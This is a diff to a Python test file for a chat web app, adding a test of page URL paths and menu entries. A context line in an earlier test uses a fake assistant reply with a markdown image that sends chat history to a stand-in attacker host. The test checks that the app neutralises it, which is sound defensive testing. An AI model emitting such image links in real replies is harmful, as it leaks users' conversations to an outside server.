@@ -179,3 +179,12 @@ def test_an_image_in_a_reply_is_a_link_not_a_picture_the_browser_loads(app, fake
     fake.enqueue({"kind": "text", "chunks": ["看图：", "![秘密](https://evil.example/p?d=history)"]})
     send(app, "画个图")
     assert chat(app)[-1] == ("assistant", "看图：[🖼️ 秘密](https://evil.example/p?d=history)")
+
+
+def test_the_pages_have_ascii_addresses_and_the_old_chinese_ones_still_open_them(app):
+    addresses: dict[str, set[str]] = {}
+    for page in app._registered_pages.values():
+        addresses.setdefault(page["script_path"].rsplit("/", 1)[-1], set()).add(page["url_pathname"])
+    assert addresses["usage.py"] == {"usage", "用量_Usage"} and addresses["history.py"] == {"history", "历史对话_History"}
+    shown = {page["url_pathname"] for page in app._registered_pages.values() if page["icon"]}  # the menu's
+    assert shown == {"", "usage", "history", "knowledge", "evaluate", "settings"}
